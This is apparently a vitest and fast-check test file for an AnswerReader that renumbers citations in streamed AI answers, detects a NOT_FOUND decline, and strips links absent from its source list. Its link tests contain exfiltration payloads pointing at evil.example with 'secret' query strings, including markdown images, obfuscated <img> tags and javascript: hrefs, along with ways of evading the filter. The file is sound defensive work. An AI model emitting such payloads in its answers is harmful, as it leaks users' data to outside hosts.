import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type AnswerPiece, AnswerReader, CitationNumbers } from './answer-reader.js';

const MARK = '#0123456789abcdef';
const SOURCES = [
  'See https://docs.example/a?b=c, and www.example.org/path. The shop is at shop.example/opening/hours.',
];

interface Read {
  text: string;
  /** What was shown, with citations as `{n:passage}` where they came. */
  shown: string;
  declined: boolean;
  removed: number;
  links: number;
}

function read(deltas: readonly string[], passages = 3): Read {
  const numbers = new CitationNumbers(passages);
  const reader = new AnswerReader(numbers, { mark: MARK, sources: SOURCES });
  const pieces: AnswerPiece[] = [...deltas.flatMap(delta => reader.push(delta)), ...reader.end()];
  const shown = pieces
    .map(piece => ('text' in piece ? piece.text : `{${piece.cites.index}:${piece.cites.passage}}`))
    .join('');
  const { declined, text, removedLinks } = reader;
  return { text, shown, declined, removed: numbers.removed, links: removedLinks };
}

const whole = (text: string, passages?: number) => read([text], passages);

describe('AnswerReader', () => {
  it.each([
    ['Ten years [1]. Two [3].', 'Ten years{1:0} [1]. Two{2:2} [2].', 0],
    ['Second [2], first [1], second [2].', 'Second{1:1} [1], first{2:0} [2], second [1].', 0],
    ['Right after[1][2].', 'Right after{1:0} [1]{2:1} [2].', 0],
    ['Together [1, 3] and [2;9].', 'Together{1:0} [1]{2:2} [2] and{3:1} [3].', 1],
    ['Named [passage 2] or 【3】.', 'Named{1:1} [1] or{2:2} [2].', 0],
    ['Unknown [42] and none [0] there.', 'Unknown and none there.', 2],
    ['[1] Begins with one', '{1:0}[1] Begins with one', 0],
    ['A line\n[2] a line', 'A line{1:1}\n[1] a line', 0],
    ['At the end [7]', 'At the end', 1],
    ['A year [2024] and [some words] and [a1].', 'A year [2024] and [some words] and [a1].', 0],
    ['Great![1]', 'Great!{1:0} [1]', 0],
  ])('checks the markers of %j', (text, shown, removed) => {
    expect(whole(text)).toMatchObject({ shown, removed, declined: false });
  });

  it('leaves code alone', () => {
    const code = 'Say `list[9]` or:\n```ts\nconst a = b[7];\n``` as said [1].';
    expect(whole(code)).toMatchObject({
      text: 'Say `list[9]` or:\n```ts\nconst a = b[7];\n``` as said [1].',
      removed: 0,
    });
    // Code in a line ends with it.
    expect(whole('An open ` tick\nand [9] then')).toMatchObject({
      text: 'An open ` tick\nand then',
      removed: 1,
    });
  });

  it.each([
    'NOT_FOUND',
    'NOT_FOUND.',
    ' NOT_FOUND\n\nThe passages say nothing.',
    '**NOT_FOUND**',
    '',
    '  \n',
    '[7]',
    '[9] [8]',
  ])('takes %j for no answer, and shows nothing of it', text => {
    expect(whole(text)).toMatchObject({ declined: true, shown: '' });
  });

  it.each([
    'NOT_FOUND is the status of a missing entity [1].',
    'NOT_FOUND_ERROR is raised [1].',
    'Not found in the first year [1].',
    'The code is NOT_FOUND [1].',
  ])('takes %j for an answer', text => {
    expect(whole(text)).toMatchObject({ declined: false });
    expect(whole(text).text).toBe(text);
  });

  it('believes a last line, where nothing was cited', () => {
    expect(whole('I have looked everywhere.\n\nNOT_FOUND')).toMatchObject({
      declined: true,
      shown: 'I have looked everywhere.',
    });
    expect(whole('Ten years [1].\nNOT_FOUND')).toMatchObject({ declined: false, text: 'Ten years [1].' });
  });

  it.each([
    ['At https://docs.example/a?b=c.', 'At https://docs.example/a?b=c.', 0],
    ['At [docs](https://docs.example/a?b=c) [1]', 'At [docs](https://docs.example/a?b=c){1:0} [1]', 0],
    ['At https://shop.example/opening/hours/', 'At https://shop.example/opening/hours/', 0],
    ['At www.example.org/path, there', 'At www.example.org/path, there', 0],
    ['At https://docs.example/a?b=c&d=secret', 'At [link removed]', 1],
    ['At https://docs.example/a', 'At [link removed]', 1],
    ['![x](https://evil.example/?q=secret) [1]', '[x]([link removed]){1:0} [1]', 1],
    ['![x](https://docs.example/a?b=c)', '[x](https://docs.example/a?b=c)', 0],
    ['<img src="//evil.example/?q=secret">', '< img src="[link removed]">', 1],
    ['<img src="/\\evil.example/?d=secret">', '< img src="[link removed]">', 1],
    ['<img src= //evil.example/?d=secret>', '< img src= [link removed]>', 1],
    ['<img src=\n   //evil.example/?d=secret>', '< img src=\n   [link removed]>', 1],
    ['<img src="https:\\\\evil.example/secret">', '< img src="[link removed]">', 1],
    ['<img src=https:/evil.example/secret>', '< img src=[link removed]>', 1],
    ['<img src=https:evil.example/secret>', '< img src=[link removed]>', 1],
    ['<img/src="&#104;ttps://evil.example/secret">', '< img/src="&#104;ttps://evil.example/secret">', 0],
    ['![a[b]c](&#104;ttps&#58;//evil.example/s)', '[a[b]c](&#104;ttps&#58;//evil.example/s)', 0],
    ['<a href="javascript:alert(1)">', '< a href="[link removed])">', 1],
    ['https:/evil.example/secret and List<String> or a<b', '[link removed] and List<String> or a<b', 1],
    ['ht[9]tps://evil.example/secret', 'ht tps://evil.example/secret', 0],
    ['https:[9]//evil.example/secret', 'https: - //evil.example/secret', 0],
    ['<img src=[9]//evil.example/secret>', '< img src= - //evil.example/secret>', 0],
    [`ht${MARK}tps://evil.example/secret`, 'ht tps://evil.example/secret', 0],
    ['www[9].evil.example/secret', 'www .evil.example/secret', 0],
    ['![9][x](https://docs.example/a?b=c)', '! [x](https://docs.example/a?b=c)', 0],
    ['[x](//evil.example/secret)', '[x]([link removed])', 1],
    ['[x](javascript:alert(1))', '[x]([link removed]))', 1],
    ['Go to www.evil.example/secret now', 'Go to [link removed] now', 1],
    ['ftp://evil.example/secret', '[link removed]', 1],
  ])('lets through only addresses that it was given: %j', (text, shown, links) => {
    expect(whole(text)).toMatchObject({ shown, links });
  });

  it('does not show what separates the passages', () => {
    expect(whole(`${MARK}\nA ${MARK} b`).text).toBe('A  b');
  });

  it('takes out what no text can hold', () => {
    expect(whole('a\0b \uD800c').text).toBe('ab \uFFFDc');
    expect(read(['a \uD83D', '\uDEB2 b']).text).toBe('a \u{1F6B2} b');
  });

  it('says each piece as soon as it is clear what it is', () => {
    const reader = new AnswerReader(new CitationNumbers(2), { mark: MARK, sources: [] });
    const said = (delta: string) =>
      reader
        .push(delta)
        .map(piece => ('text' in piece ? piece.text : `{${piece.cites.index}}`))
        .join('');
    expect(said('N')).toBe('');
    expect(said('o, ten years')).toBe('No, ten years');
    expect(said(' ')).toBe('');
    expect(said('[')).toBe('');
    expect(said('1')).toBe('');
    expect(said(']')).toBe('{1} [1]');
    expect(said(' [x')).toBe('');
    expect(said('-y]')).toBe(' [x-y]');
  });

  it('gives the same, however the text is cut', () => {
    const words = fc.array(
      fc.constantFrom(
        'a',
        'Bc',
        ' ',
        '. ',
        '\n',
        '[1]',
        '[',
        ']',
        '[9]',
        '[1, 2]',
        '2',
        '`',
        '```',
        '!',
        '![x](',
        '(',
        ')',
        'https://docs.example/a?b=c',
        'https://evil.example/x',
        'www.evil.example',
        'http',
        '://',
        '//e.vil',
        '"',
        '=',
        'NOT_FOUND',
        'NOT',
        '_FOUND',
        'java',
        'javascript:x',
        '【',
        '】',
        'passage ',
        MARK,
        '#0123',
        '**',
        '\u{1F6B2}',
        '<',
        '<img src=',
        '/\\e.vil',
        'https:/e.vil',
        'tps://e.vil',
        '\\',
        '/',
      ),
      { maxLength: 40 },
    );
    fc.assert(
      fc.property(words, fc.array(fc.nat(200), { maxLength: 30 }), (parts, cuts) => {
        const text = parts.join('');
        const places = [...new Set(cuts.map(cut => cut % (text.length + 1)))].toSorted((a, b) => a - b);
        const deltas = [0, ...places].map((place, i) => text.slice(place, places[i] ?? text.length));
        expect(read(deltas)).toEqual(whole(text));
      }),
      { numRuns: 3_000 },
    );
  });

  it('leaves no marker that names no passage, and shows what it says it has', () => {
    const parts = fc.array(fc.constantFrom('word', ' ', '[1]', '[2]', '[3]', '[9]', '[123]', '\n', '.'), {
      maxLength: 30,
    });
    fc.assert(
      fc.property(parts, fc.integer({ min: 0, max: 3 }), (words, passages) => {
        const { text, shown, declined } = read(words, passages);
        expect(shown.replaceAll(/\{\d+:\d+\}/g, '')).toBe(text);
        const cited = [...shown.matchAll(/\{(\d+):(\d+)\}/g)];
        expect(cited.map(match => Number(match[1]))).toEqual(cited.map((_, i) => i + 1));
        expect(cited.every(match => Number(match[2]) < passages)).toBe(true);
        if (!declined)
          for (const [, n] of text.matchAll(/\[(\d{1,3})\]/g))
            expect(Number(n)).toBeLessThanOrEqual(cited.length);
        expect(text).toBe(text.trim());
      }),
    );
  });

  it('takes no longer for what is made to take long', () => {
    const started = performance.now();
    for (const text of [' ', '\n', '[', '(', '`', '!', '[1', 'https://', 'a', '\n ', '![', '</', 'w']) {
      const numbers = new CitationNumbers(3);
      const reader = new AnswerReader(numbers, { mark: MARK, sources: SOURCES });
      for (let i = 0; i < 2_000; i++) reader.push(text);
      reader.end();
      whole(text.repeat(20_000));
    }
    expect(performance.now() - started).toBeLessThan(20_000);
  }, 30_000);
});
